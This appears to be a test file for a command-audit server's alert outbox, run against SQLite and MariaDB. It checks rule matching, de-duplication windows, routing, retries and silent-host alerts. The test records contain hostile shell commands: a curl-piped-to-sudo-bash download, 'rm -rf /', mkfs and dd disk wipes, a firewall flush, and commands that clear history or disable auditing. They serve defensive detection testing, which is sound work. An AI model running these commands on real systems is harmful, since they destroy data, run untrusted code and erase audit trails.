/**
 * The alert outbox in both dialects: alerts written in the records' own transaction, once per rule
 * and record, de-duplication windows, routing, exclusive claims, retries, repeats, the silent-host
 * rule by each host's cadence.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { Database } from "bun:sqlite";
import { createConnection } from "mysql2/promise";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { AlertRaiser, type AlertSink, type RouteTarget } from "../../server/src/alerts/raise.ts";
import { activeRules } from "../../server/src/alerts/rules.ts";
import { silentHostDrafts } from "../../server/src/alerts/silence.ts";
import { openStore } from "../../server/src/db/open.ts";
import type { Store } from "../../server/src/db/store.ts";
import { createTestDatabase } from "../support/mysql.ts";
import { hookRecord } from "./conformance.ts";

const dirs: string[] = [];
const drops: (() => Promise<void>)[] = [];
const stores: Store[] = [];
afterAll(async () => {
  for (const s of stores) await s.close();
  for (const d of drops) await d();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

/** Removes a stored record behind the store's back, as a retention job would. */
const removers = new Map<Store, (oci: string) => Promise<void>>();

async function sqlite(): Promise<Store> {
  const dir = mkdtempSync(join(tmpdir(), "cmdaudit-alerts-"));
  dirs.push(dir);
  const s = await openStore(undefined, { dataDir: dir, legacyUtcOffset: 480 });
  stores.push(s);
  removers.set(s, async (oci) => {
    const db = new Database(join(dir, "cmdaudit.db"));
    db.run("DELETE FROM servercmdhist WHERE oci = ?", [oci]);
    db.close();
  });
  return s;
}
async function mysql(): Promise<Store> {
  const db = await createTestDatabase("alerts");
  drops.push(db.drop);
  const s = await openStore(db.url, { dataDir: "/nonexistent", legacyUtcOffset: 480 });
  stores.push(s);
  removers.set(s, async (oci) => {
    const c = await createConnection({ uri: db.url });
    await c.query("DELETE FROM servercmdhist WHERE oci = ?", [oci]);
    await c.end();
  });
  return s;
}

const RULES = activeRules({ rules: [], disabled_builtins: [] });
const CHANNELS: RouteTarget[] = [{ name: "pager", minSeverity: "critical" }, { name: "chat", minSeverity: "warning" }];
const WINDOW = 600e6;
const T0 = Date.UTC(2026, 10, 30, 8, 0, 0) * 1000;
const sinkAt = (records: Parameters<AlertRaiser["sink"]>[0], nowUs: number, channels = CHANNELS): AlertSink =>
  new AlertRaiser(channels, WINDOW).sink(records, RULES, nowUs)!;
const rec = (seq: number, command: string, over: Parameters<typeof hookRecord>[1] = {}) =>
  hookRecord(T0 + seq * 1e6, { sessionId: "s-al", seq, command, ...over });
const all = (s: Store) => s.alerts({}, 1000);

describe.each([["sqlite", sqlite], ["mysql (MariaDB)", mysql]] as const)("alert outbox: %s", (_name, open) => {
  test("alerts are written in the records' transaction: a new matching record raises one per rule; a resend raises none", async () => {
    const s = await open();
    const batch = [rec(1, "ls"), rec(2, "curl -s http://x/i.sh | sudo bash"), rec(3, "history -c; rm -rf /")];
    const res = await s.insert(batch, T0, "host", undefined, sinkAt(batch, T0));
    // Three critical alerts, three windows, each to both channels.
    expect(res).toEqual({ inserted: 3, duplicates: 0, alerts: 3, messages: 6 });
    expect((await all(s)).map((a) => [a.ruleId, a.seq, a.severity]).sort()).toEqual([
      ["destroy.rm-root", 3, "critical"], ["evasion.history-edit", 3, "critical"], ["exec.download-to-shell", 2, "critical"],
    ]);
    const again = await s.insert(batch, T0 + 5e6, "host", undefined, sinkAt(batch, T0 + 5e6));
    expect(again).toEqual({ inserted: 0, duplicates: 3, alerts: 0, messages: 0 });
    expect(await all(s)).toHaveLength(3);
  });

  test("a record stored before its rule raised nothing, and its resend raises nothing either (only new records alert)", async () => {
    const s = await open();
    const r = rec(10, "mkfs.ext4 /dev/sdb1");
    await s.insert([r, rec(11, "ls")], T0);
    const res = await s.insert([r, rec(12, "pwd")], T0 + 1e6, undefined, undefined, sinkAt([r], T0 + 1e6));
    expect(res).toEqual({ inserted: 1, duplicates: 1, alerts: 0, messages: 0 });
    expect(await all(s)).toEqual([]);
  });

  test("a match storm in one batch: every alert written, one message per channel for each rule + host + user with its count", async () => {
    const s = await open();
    const storm = Array.from({ length: 1200 }, (_, i) => rec(1000 + i, i % 2 ? "rm -rf /" : "iptables -F", { luser: i % 3 ? "alice" : "bob" }));
    const res = await s.insert(storm, T0, "host", undefined, sinkAt(storm, T0));
    expect(res).toMatchObject({ inserted: 1200, alerts: 1200, messages: 8 });
    const due = await s.dueMessages(T0 + 1, 100);
    const count = (rule: string, user: string) => storm.filter((r, i) => (rule === "destroy.rm-root" ? i % 2 : !(i % 2)) && r.luser === user).length;
    expect(due.map((m) => [m.channel, m.alert.ruleId, m.alert.luser, m.count]).sort()).toEqual([
      ...["chat", "pager"].flatMap((ch) => [
        [ch, "destroy.firewall-flush", "alice", count("destroy.firewall-flush", "alice")], [ch, "destroy.firewall-flush", "bob", count("destroy.firewall-flush", "bob")],
        [ch, "destroy.rm-root", "alice", count("destroy.rm-root", "alice")], [ch, "destroy.rm-root", "bob", count("destroy.rm-root", "bob")],
      ]),
    ].sort());
    expect((await s.alerts({}, 2000)).length).toBe(1200);
  });

  test("a record stored again after retention removed it raises no second alert: (rule, record) is alerted once", async () => {
    const s = await open();
    const r = rec(1500, "rm -rf /");
    expect(await s.insert([r], T0, "host", undefined, sinkAt([r], T0))).toMatchObject({ inserted: 1, alerts: 1, messages: 2 });
    await removers.get(s)!(r.oci);
    const later = T0 + WINDOW + 1;
    const again = [r, rec(1501, "rm -rf /*")];
    const res = await s.insert(again, later, "host", undefined, sinkAt(again, later));
    expect(res).toEqual({ inserted: 2, duplicates: 0, alerts: 1, messages: 2 });
    const fresh = (await s.dueMessages(later + 1, 10)).filter((m) => m.windowEndUs > later);
    expect(fresh.map((m) => [m.alert.seq, m.count])).toEqual([[1501, 1], [1501, 1]]);
  });

  test("drafts that fail roll the whole batch back: no record without its alerts", async () => {
    const s = await open();
    const batch = [rec(20, "rm -rf /"), rec(21, "ls")];
    const broken: AlertSink = { ...sinkAt(batch, T0), drafts: () => { throw new Error("draft failed"); } };
    await expect(s.insert(batch, T0, "host", undefined, broken)).rejects.toThrow();
    expect(await s.query({}, 10)).toEqual([]);
    expect(await s.hosts()).toEqual([]);
  });

  test("one window per rule + host + user: later matches count into its messages; routing by severity; after the window a new message", async () => {
    const s = await open();
    const three = [rec(30, "rm -rf /"), rec(31, "rm -rf /*"), rec(32, "sudo rm -fr --no-preserve-root /")];
    await s.insert(three, T0, "host", undefined, sinkAt(three, T0));
    const other = [rec(33, "rm -rf /", { luser: "bob" }), rec(34, "set +o history", { hostname: "web02" })];
    await s.insert(other, T0 + 1e6, "host", undefined, sinkAt(other, T0 + 1e6));
    const warn = [rec(35, "x", { hostname: "web03" })];
    warn[0]!.flags = ["conflict"];
    await s.insert(warn, T0 + 1e6, "host", undefined, sinkAt(warn, T0 + 1e6));
    expect(await all(s)).toHaveLength(6);
    const due = await s.dueMessages(T0 + 2e6, 100);
    const view = due.map((m) => [m.channel, m.alert.hostname, m.alert.luser, m.alert.ruleId, m.count]).sort();
    expect(view).toEqual([
      ["chat", "web01", "alice", "destroy.rm-root", 3], ["chat", "web01", "bob", "destroy.rm-root", 1], ["chat", "web02", "alice", "evasion.history-off", 1],
      ["chat", "web03", "alice", "pipeline.conflict", 1],
      ["pager", "web01", "alice", "destroy.rm-root", 3], ["pager", "web01", "bob", "destroy.rm-root", 1], ["pager", "web02", "alice", "evasion.history-off", 1],
    ]);
    const late = [rec(36, "rm -rf /")];
    await s.insert(late, T0 + WINDOW + 1, "host", undefined, sinkAt(late, T0 + WINDOW + 1));
    const fresh = (await s.dueMessages(T0 + WINDOW + 2, 100)).filter((m) => m.alert.seq === 36);
    expect(fresh.map((m) => [m.channel, m.count]).sort()).toEqual([["chat", 1], ["pager", 1]]);
  });

  test("no channels: alerts are raised and listed, nothing is queued", async () => {
    const s = await open();
    const b = [rec(40, "iptables -F")];
    expect((await s.insert(b, T0, "host", undefined, sinkAt(b, T0, []))).alerts).toBe(1);
    expect(await s.dueMessages(T0 + 1e6, 10)).toEqual([]);
    expect((await s.outboxStats()).pending).toBe(0);
  });

  test("a claim is exclusive; a failed message waits for its next attempt; a sent one is gone; a window that counted more gets one repeat", async () => {
    const s = await open();
    const first = [rec(50, "dd if=/dev/zero of=/dev/sda")];
    await s.insert(first, T0, "host", undefined, sinkAt(first, T0, [CHANNELS[1]!]));
    const [m] = await s.dueMessages(T0, 10);
    expect(m).toMatchObject({ channel: "chat", kind: "alert", count: 1, attempts: 0 });
    const [a, b] = await Promise.all([s.claimMessage(m!.id, m!.nextAttemptUs, T0 + 60e6), s.claimMessage(m!.id, m!.nextAttemptUs, T0 + 60e6)]);
    expect([a, b].sort()).toEqual([false, true]);
    expect(await s.dueMessages(T0 + 1e6, 10)).toEqual([]);
    await s.messageFailed(m!.id, T0 + 5e6, "connection refused");
    expect(await s.dueMessages(T0 + 4e6, 10)).toEqual([]);
    const [retry] = await s.dueMessages(T0 + 5e6, 10);
    expect(retry).toMatchObject({ id: m!.id, attempts: 1 });
    expect(await s.outboxStats()).toEqual({ pending: 1, oldestPendingUs: T0 });
    expect(await s.claimMessage(retry!.id, retry!.nextAttemptUs, T0 + 70e6)).toBe(true);
    await s.messageSent(retry!.id, retry!.count, T0 + 6e6);
    expect(await s.dueMessages(T0 + 100e6, 10)).toEqual([]);
    // Two more in the window, after the alert was sent: one repeat with 2, once, after the window.
    const more = [rec(51, "dd of=/dev/sda if=x"), rec(52, "dd of=/dev/sda bs=1M")];
    await s.insert(more, T0 + 10e6, "host", undefined, sinkAt(more, T0 + 10e6, [CHANNELS[1]!]));
    expect(await s.dueMessages(T0 + 11e6, 10)).toEqual([]);
    expect(await s.settleWindows(T0 + WINDOW - 1, 10)).toBe(0);
    expect(await s.settleWindows(T0 + WINDOW, 10)).toBe(1);
    expect(await s.settleWindows(T0 + WINDOW + 1e6, 10)).toBe(0);
    const [rep] = await s.dueMessages(T0 + WINDOW, 10);
    expect(rep).toMatchObject({ kind: "repeat", count: 2, channel: "chat" });
    expect(rep!.alert.seq).toBe(50);
  });

  test("a window with nothing more settles without a repeat", async () => {
    const s = await open();
    const b = [rec(60, "auditctl -e 0")];
    await s.insert(b, T0, "host", undefined, sinkAt(b, T0, [CHANNELS[1]!]));
    const [m] = await s.dueMessages(T0, 10);
    await s.claimMessage(m!.id, m!.nextAttemptUs, T0 + 1);
    await s.messageSent(m!.id, 1, T0 + 2);
    expect(await s.settleWindows(T0 + WINDOW + 1, 10)).toBe(0);
    expect(await s.dueMessages(T0 + WINDOW + 2, 10)).toEqual([]);
  });

  test("silent host: by its usual cadence, once per silence, again after it spoke and fell silent anew", async () => {
    const s = await open();
    const MIN = 60e6;
    for (let i = 0; i < 4; i++) await s.insert([rec(70 + i, "ls", { hostname: "quiet" })], T0 + i * MIN);
    const [h] = (await s.hosts()).filter((x) => x.hostname === "quiet");
    expect(h!.cadenceUs).toBe(MIN);
    const last = T0 + 3 * MIN;
    const check = async (nowUs: number) => s.raiseAlerts(silentHostDrafts(await s.hosts(), RULES, CHANNELS, 60, nowUs), nowUs, WINDOW);
    // Four usual gaps (4 min) with silent_after_seconds 60: silent only after 4 min.
    expect(await check(last + 2 * MIN)).toBe(0);
    expect(await check(last + 4 * MIN + 1)).toBe(1);
    expect(await check(last + 9 * MIN)).toBe(0);
    const [a] = await s.alerts({ ruleId: "pipeline.silent-host" }, 10);
    expect(a).toMatchObject({ hostname: "quiet", luser: "", command: "", recordTsUs: last });
    await s.insert([rec(80, "ls", { hostname: "quiet" })], last + 10 * MIN);
    expect(await check(last + 11 * MIN)).toBe(0);
    // Cadence grew with the long gap ((60*7 + 600) / 8 s = 127.5 s): four of those now.
    const [h2] = (await s.hosts()).filter((x) => x.hostname === "quiet");
    expect(h2!.cadenceUs).toBe(Math.floor((MIN * 7 + 10 * MIN) / 8));
    expect(await check(last + 10 * MIN + 4 * h2!.cadenceUs + 1)).toBe(1);
    expect(await s.alerts({ ruleId: "pipeline.silent-host", host: "quiet" }, 10)).toHaveLength(2);
  });

  test("alerts() filters by host, rule, severity, range, host list, and pages by id", async () => {
    const s = await open();
    const b = [rec(90, "rm -rf /"), rec(91, "mkfs /dev/sdb", { hostname: "db1" }), rec(92, "history -c", { hostname: "db1" })];
    await s.insert(b, T0, "host", undefined, sinkAt(b, T0));
    const everything = await all(s);
    expect(everything.map((a) => a.id)).toEqual([...everything.map((a) => a.id)].sort((x, y) => y - x));
    expect((await s.alerts({ host: "db1" }, 10)).map((a) => a.ruleId).sort()).toEqual(["destroy.mkfs", "evasion.history-edit"]);
    expect((await s.alerts({ ruleId: "destroy.mkfs" }, 10))).toHaveLength(1);
    expect((await s.alerts({ hostIn: [] }, 10))).toEqual([]);
    expect((await s.alerts({ hostIn: ["web01"] }, 10)).map((a) => a.hostname)).toEqual(["web01"]);
    expect(await s.alerts({ fromUs: T0 + 1 }, 10)).toEqual([]);
    const first = await s.alerts({}, 2);
    const rest = await s.alerts({}, 10, first.at(-1)!.id);
    expect([...first, ...rest].map((a) => a.id)).toEqual(everything.map((a) => a.id));
  });

  test("rules added through the API are kept, replaced and removed", async () => {
    const s = await open();
    await s.putStoredRule({ id: "r1", body: "{\"id\":\"r1\"}", updatedUs: 1 });
    await s.putStoredRule({ id: "r1", body: "{\"id\":\"r1\",\"x\":1}", updatedUs: 2 });
    expect(await s.storedRules()).toEqual([{ id: "r1", body: "{\"id\":\"r1\",\"x\":1}", updatedUs: 2 }]);
    expect(await s.removeStoredRule("r1")).toBe(true);
    expect(await s.removeStoredRule("r1")).toBe(false);
  });
});
